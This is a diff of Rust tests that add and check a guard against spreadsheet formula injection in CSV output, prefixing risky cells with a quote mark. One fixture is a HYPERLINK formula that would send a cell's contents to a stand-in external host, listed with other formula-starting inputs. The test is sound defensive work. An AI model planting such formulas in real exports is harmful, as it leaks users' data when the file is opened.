@@ -335,17 +335,31 @@ fn csv_crate_row(fields: &[&str]) -> Vec<u8> {
     writer.into_inner().unwrap()
 }
 
+/// `text` as a spreadsheet must not run it: with a `'` in front when it
+/// begins with a formula's first character (or with `'`).
+fn inert(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    }
+}
+
 proptest::proptest! {
+    // The `csv` crate quotes; the text it is given is neutralised first
+    // (issue 20, item 10), so ids and errors in these rows start with `'`
+    // where they began with `=`, `+`, `-`, `@`, a tab, `\r` or `'`.
     #[test]
     fn csv_rows_are_byte_for_byte_what_the_csv_crate_writes(
         line in 0_u64..=u64::MAX,
-        id in proptest::option::of("[a-z,\"\r\n ]{0,8}"),
-        error in "[a-z,\"\r\n ]{0,12}",
+        id in proptest::option::of("[a-z,\"\r\n =+@'\t-]{0,8}"),
+        error in "[a-z,\"\r\n =+@'\t-]{0,12}",
     ) {
         let mut ours = Vec::new();
         write_csv_error(&mut ours, line, id.as_deref(), &error);
         let line_text = line.to_string();
-        let theirs = csv_crate_row(&[&line_text, id.as_deref().unwrap_or(""), "", "", "", "", "", "", &error]);
+        let id = inert(id.as_deref().unwrap_or(""));
+        let theirs = csv_crate_row(&[&line_text, &id, "", "", "", "", "", "", &inert(&error)]);
         proptest::prop_assert_eq!(&ours, &theirs);
     }
 }
@@ -367,4 +381,60 @@ fn a_priced_csv_row_matches_the_csv_crate_too() {
         String::from_utf8(ours).unwrap(),
         String::from_utf8(csv_crate_row(&fields)).unwrap()
     );
+}
+
+/// What a spreadsheet would run as a formula, as ids of the batch output.
+const FORMULAS: [&str; 7] = [
+    "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")",
+    "+1",
+    "-2+3",
+    "@SUM(1)",
+    "\tA",
+    "\rA",
+    "'=1",
+];
+
+/// The cells those ids become: a `'` in front, quoted when they must be.
+const INERT: [&str; 7] = [
+    "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\"",
+    "'+1",
+    "'-2+3",
+    "'@SUM(1)",
+    "'\tA",
+    "\"'\rA\"",
+    "''=1",
+];
+
+#[test]
+fn a_batch_csv_cell_is_never_a_formula_and_amounts_stay_numbers() {
+    for (id, cell) in FORMULAS.iter().zip(INERT) {
+        let mut out = Vec::new();
+        write_csv_priced(&mut out, 2, Some(id), &worked_example());
+        assert_eq!(
+            text(out),
+            format!("2,{cell},150.00,-22.50,-2.55,10.00,6.74,141.69,\n")
+        );
+        let mut out = Vec::new();
+        write_csv_error(&mut out, 3, Some(id), &format!("-{id}"));
+        let error = inert(&format!("-{id}"));
+        let error = String::from_utf8(csv_crate_row(&[&error])).unwrap();
+        assert_eq!(text(out), format!("3,{cell},,,,,,,{error}"));
+    }
+    let mut out = Vec::new();
+    put_csv_field(&mut out, "INV-=1");
+    assert_eq!(text(out), "INV-=1", "only the first character counts");
+}
+
+#[test]
+fn a_csv_row_neutralises_its_text_cells_only() {
+    let mut out = Vec::new();
+    put_csv_row(
+        &mut out,
+        &[
+            CsvCell::Text("-2+3".to_owned()),
+            CsvCell::Number("-22.50".to_owned()),
+            CsvCell::Text("a,b".to_owned()),
+        ],
+    );
+    assert_eq!(text(out), "'-2+3,-22.50,\"a,b\"\n");
 }
